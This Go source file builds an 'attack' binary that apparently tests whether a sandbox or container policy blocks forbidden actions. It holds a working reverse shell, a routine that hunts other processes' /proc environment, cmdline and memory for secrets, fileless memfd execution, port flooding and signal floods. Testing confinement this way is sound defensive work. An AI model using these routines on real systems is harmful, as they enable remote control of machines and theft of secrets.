// Command attack does one thing that a policy may forbid and says how it
// went: "worked NAME", or the errno. It is static and needs nothing around it, so that
// it runs in an image made FROM scratch. Every address comes from the caller.
package main

import (
	"errors"
	"fmt"
	"io"
	"net"
	"os"
	"os/exec"
	"runtime"
	"slices"
	"strconv"
	"strings"
	"syscall"
	"time"
	"unsafe"
)

var attacks = map[string]func(args []string) error{
	"echo":    func(args []string) error { fmt.Println(strings.Join(args, " ")); return nil },
	"exit":    func(args []string) error { n, _ := strconv.Atoi(args[0]); os.Exit(n); return nil },
	"run":     func(args []string) error { return syscall.Exec(args[0], args, os.Environ()) },
	"child":   child,
	"each":    each,
	"memfd":   memfd,
	"drop":    drop,
	"shell":   reverseShell,
	"tcp":     tcp,
	"udp":     udp,
	"sendto":  sendto,
	"fork":    fork,
	"unshare": func([]string) error { return call(syscall.SYS_UNSHARE, syscall.CLONE_NEWUTS) },
	"mount":   func([]string) error { return syscall.Mount("none", "/tmp", "tmpfs", 0, "") },
	"bpf":     func([]string) error { return call(bpfCall, 0) },
	"uring":   func([]string) error { return call(425, 1) },
	"ptrace":  func([]string) error { return call(syscall.SYS_PTRACE, 0x4206, uintptr(os.Getppid())) },
	"raw":     func([]string) error { return call(syscall.SYS_SOCKET, 17, 3, 0) },
	"setuid":  func(args []string) error { n, _ := strconv.Atoi(args[0]); return call(syscall.SYS_SETUID, uintptr(n)) },
	"drop-to": dropTo, "drop-for-now": dropForNow,
	"without": without,
	"kill":    kill,
	"steal":   steal,
	"env":     func([]string) error { fmt.Println(strings.Join(os.Environ(), "\n")); return nil },
	"orphans": orphans,
	"sleep":   func(args []string) error { d, _ := time.ParseDuration(args[0]); time.Sleep(d); return nil },
	"id":      func([]string) error { fmt.Println("uid", os.Getuid(), "gid", os.Getgid()); return nil },
	"now":     now,
	"status":  statusLine,
	"serve":   serve,
	"flood":   flood,
}

func main() {
	if isShell() {
		os.Args = append(os.Args, "-i")
	}
	if len(os.Args) < 2 || attacks[os.Args[1]] == nil {
		fmt.Println("unknown attack")
		os.Exit(99)
	}
	err := attacks[os.Args[1]](os.Args[2:])
	var e syscall.Errno
	switch {
	case err == nil:
		fmt.Println("worked", os.Args[1])
	case errors.As(err, &e):
		fmt.Println("errno", int(e), e)
		os.Exit(1)
	default:
		fmt.Println("error", err)
		os.Exit(1)
	}
}

func call(nr uintptr, args ...uintptr) error {
	var a [3]uintptr
	copy(a[:], args)
	if _, _, e := syscall.RawSyscall(nr, a[0], a[1], a[2]); e != 0 {
		return e
	}
	return nil
}

// child runs the rest in a child of its own, as a shell would.
func child(args []string) error {
	c := exec.Command(args[0], args[1:]...)
	c.Stdin, c.Stdout, c.Stderr = os.Stdin, os.Stdout, os.Stderr
	err := c.Run()
	if slices.Contains(args, "shell") {
		awaitReceived() // its peer, which may end with us, writes down what it received
	}
	var exit *exec.ExitError
	if errors.As(err, &exit) {
		fmt.Println("child", exit.ProcessState)
		return nil
	}
	return err
}

// received exists once a peer of ours has written down what it received.
const received = "/tmp/received"

// awaitReceived waits for a peer that shares our files; another one has time
// enough, unless nobody wants to know what it received.
func awaitReceived() {
	if os.Getenv("UNHEARD") != "" {
		return
	}
	for range 300 {
		if os.Remove(received) == nil {
			return
		}
		time.Sleep(10 * time.Millisecond)
	}
}

// each runs several attacks, separated by ";", one after the other.
func each(args []string) error {
	for len(args) > 0 {
		n := slices.Index(args, ";")
		if n < 0 {
			n = len(args)
		}
		fmt.Println("attack", strings.Join(args[:n], " "))
		if err := child(append([]string{"/proc/self/exe"}, args[:n]...)); err != nil {
			fmt.Println("cannot run it:", err)
		}
		args = args[min(n+1, len(args)):]
	}
	return nil
}

func self() ([]byte, error) { return os.ReadFile("/proc/self/exe") }

// memfd runs a copy of this program that has no name in any filesystem.
func memfd([]string) error {
	b, err := self()
	if err != nil {
		return err
	}
	name := []byte("x\x00")
	fd, _, e := syscall.RawSyscall(memfdCreate, uintptr(unsafe.Pointer(&name[0])), 0, 0)
	if e != 0 {
		return e
	}
	f := os.NewFile(fd, "x")
	if _, err := f.Write(b); err != nil {
		return err
	}
	return syscall.Exec("/proc/self/fd/"+strconv.Itoa(int(fd)), []string{"memfd", "echo", "memfd-ran"}, nil)
}

// drop writes a copy of this program, changed by one byte, and runs it.
func drop(args []string) error {
	b, err := self()
	if err != nil {
		return err
	}
	if err := os.WriteFile(args[0], append(b, 0), 0o755); err != nil {
		return err
	}
	return syscall.Exec(args[0], []string{args[0], "echo", "drop-ran"}, nil)
}

// reverseShell puts a connection onto 0, 1 and 2 and runs the rest.
func reverseShell(args []string) error {
	c, err := net.Dial("tcp", args[0])
	if err != nil {
		return err
	}
	// Closing with unread bytes would send a reset, which takes back what the
	// shell said.
	if _, err := io.ReadFull(c, make([]byte, len("hello"))); err != nil {
		return err
	}
	f, err := c.(*net.TCPConn).File()
	if err != nil {
		return err
	}
	out, _ := syscall.Dup(1)
	syscall.CloseOnExec(out)
	for fd := range 3 {
		if err := syscall.Dup3(int(f.Fd()), fd, 0); err != nil {
			return err
		}
	}
	err = syscall.Exec(args[1], args[1:], nil)
	syscall.Dup3(out, 1, 0)
	return err
}

func tcp(args []string) error {
	c, err := net.DialTimeout("tcp", args[0], 20*time.Second)
	if err != nil {
		return err
	}
	b, _ := io.ReadAll(io.LimitReader(c, 100))
	fmt.Println("got", string(b))
	return c.Close()
}

// udp connects and writes.
func udp(args []string) error {
	c, err := net.Dial("udp", args[0])
	if err != nil {
		return err
	}
	_, err = c.Write([]byte("x"))
	return err
}

// sendto sends without connecting.
func sendto(args []string) error {
	c, err := net.ListenPacket("udp", ":0")
	if err != nil {
		return err
	}
	a, err := net.ResolveUDPAddr("udp", args[0])
	if err != nil {
		return err
	}
	_, err = c.WriteTo([]byte("x"), a)
	return err
}

// fork makes children that stay, until it may not or has n.
func fork(args []string) error {
	n, _ := strconv.Atoi(args[0])
	for i := range n {
		c := exec.Command("/proc/self/exe", "sleep", "3s")
		if err := c.Start(); err != nil {
			fmt.Println("forked", i)
			return err
		}
	}
	fmt.Println("forked", n)
	return nil
}

// dropTo becomes another user as gosu does, and then runs the rest.
func dropTo(args []string) error {
	id, _ := strconv.Atoi(args[0])
	for _, err := range []error{syscall.Setgroups(nil), syscall.Setgid(id), syscall.Setuid(id)} {
		if err != nil {
			return err
		}
	}
	return syscall.Exec(args[1], args[1:], os.Environ())
}

// dropForNow takes another effective user, which it could give back, and runs
// the rest.
func dropForNow(args []string) error {
	id, _ := strconv.Atoi(args[0])
	for _, err := range []error{syscall.Setgroups(nil), syscall.Setresgid(-1, id, -1), syscall.Setresuid(-1, id, -1)} {
		if err != nil {
			return err
		}
	}
	return syscall.Exec(args[1], args[1:], os.Environ())
}

// without loses a capability for good and then runs the rest.
func without(args []string) error {
	n, _ := strconv.Atoi(args[0])
	runtime.LockOSThread()
	const prCapbsetDrop = 24
	if err := call(syscall.SYS_PRCTL, prCapbsetDrop, uintptr(n)); err != nil {
		return err
	}
	return syscall.Exec(args[1], args[1:], os.Environ())
}

// kill sends every signal to a process by every call that can.
func kill(args []string) error {
	pid, _ := strconv.Atoi(args[0])
	rounds, _ := strconv.Atoi(args[1])
	sent := 0
	for range rounds {
		for sig := 1; sig <= 64; sig++ {
			s := syscall.Signal(sig)
			if syscall.Kill(pid, s) == nil {
				sent++
			}
			if call(syscall.SYS_TKILL, uintptr(pid), uintptr(sig)) == nil {
				sent++
			}
			if _, _, e := syscall.RawSyscall(syscall.SYS_TGKILL, uintptr(pid), uintptr(pid), uintptr(sig)); e == 0 {
				sent++
			}
			var info [16]uint64
			*(*int32)(unsafe.Pointer(&info[0])) = int32(sig)
			*(*int32)(unsafe.Pointer(&info[1])) = -1
			if call(syscall.SYS_RT_SIGQUEUEINFO, uintptr(pid), uintptr(sig), uintptr(unsafe.Pointer(&info))) == nil {
				sent++
			}
			if fd, _, e := syscall.RawSyscall(434, uintptr(pid), 0, 0); e == 0 { // pidfd_open
				if call(424, fd, uintptr(sig), 0) == nil { // pidfd_send_signal
					sent++
				}
				syscall.Close(int(fd))
			}
		}
	}
	fmt.Println("sent", sent)
	return nil
}

// steal looks for a secret wherever a process may find one of another. The
// secret is given backwards, because it is looked for in arguments too.
func steal(args []string) error {
	b := []byte(args[0])
	slices.Reverse(b)
	secret := string(b)
	found := false
	look := func(what string, b []byte) {
		if strings.Contains(string(b), secret) {
			found = true
			fmt.Println("found in", what)
		}
	}
	look("own environment", []byte(strings.Join(os.Environ(), "\n")))
	pids, _ := os.ReadDir("/proc")
	for _, d := range pids {
		if d.Name()[0] < '1' || d.Name()[0] > '9' || d.Name() == strconv.Itoa(os.Getpid()) {
			continue
		}
		if len(args) > 1 && d.Name() != args[1] {
			continue
		}
		for _, f := range []string{"environ", "cmdline"} {
			b, err := os.ReadFile("/proc/" + d.Name() + "/" + f)
			if err == nil {
				look(d.Name()+"/"+f, b)
			}
		}
		if m, err := os.Open("/proc/" + d.Name() + "/mem"); err == nil {
			fmt.Println("opened", d.Name()+"/mem")
			m.Close()
			found = true
		}
	}
	if found {
		return errors.New("stolen")
	}
	fmt.Println("nothing found")
	return nil
}

// orphans leaves n dead children to whoever takes them.
func orphans(args []string) error {
	n, _ := strconv.Atoi(args[0])
	for range n {
		c := exec.Command("/proc/self/exe", "child", "/proc/self/exe", "echo", "-n")
		c.Stdout = nil
		if err := c.Run(); err != nil {
			return err
		}
	}
	return nil
}

// now prints the monotonic clock in nanoseconds.
func now([]string) error {
	var ts syscall.Timespec
	if _, _, e := syscall.RawSyscall(syscall.SYS_CLOCK_GETTIME, 1, uintptr(unsafe.Pointer(&ts)), 0); e != 0 {
		return e
	}
	fmt.Println("now", ts.Nano())
	return nil
}

// statusLine prints the lines of /proc/self/status that tell of confinement.
func statusLine([]string) error {
	b, err := os.ReadFile("/proc/self/status")
	for l := range strings.Lines(string(b)) {
		for _, k := range []string{"CapBnd", "NoNewPrivs", "SigIgn", "SigBlk", "Seccomp"} {
			if strings.HasPrefix(l, k) {
				fmt.Print(l)
			}
		}
	}
	return err
}

// serve greets on TCP, listens on UDP, and says what arrives, until it is killed.
func serve(args []string) error {
	for _, a := range args {
		l, err := net.Listen("tcp", a)
		if err != nil {
			return err
		}
		u, err := net.ListenPacket("udp", a)
		if err != nil {
			return err
		}
		go func() {
			b := make([]byte, 100)
			for {
				n, _, err := u.ReadFrom(b)
				if err != nil {
					return
				}
				fmt.Println("datagram", string(b[:n]))
			}
		}()
		go func() {
			for {
				c, err := l.Accept()
				if err != nil {
					return
				}
				go func() {
					c.Write([]byte("hello"))
					c.(*net.TCPConn).CloseWrite()
					b, _ := io.ReadAll(io.LimitReader(c, 1000))
					fmt.Println("received", string(b))
					c.Close()
					summoned(string(b))
					_ = os.WriteFile(received, nil, 0o666)
				}()
			}
		}()
	}
	fmt.Println("serving")
	select {}
}

// flood tries n connections to different ports of one address.
func flood(args []string) error {
	n, _ := strconv.Atoi(args[1])
	ip := net.ParseIP(args[0]).To4()
	refused := 0
	for i := range n {
		fd, err := syscall.Socket(syscall.AF_INET, syscall.SOCK_STREAM, 0)
		if err != nil {
			return err
		}
		err = syscall.Connect(fd, &syscall.SockaddrInet4{Port: 1 + i%60000, Addr: [4]byte(ip)})
		if err == syscall.ECONNREFUSED {
			refused++
		}
		syscall.Close(fd)
	}
	fmt.Println("refused", refused)
	return nil
}
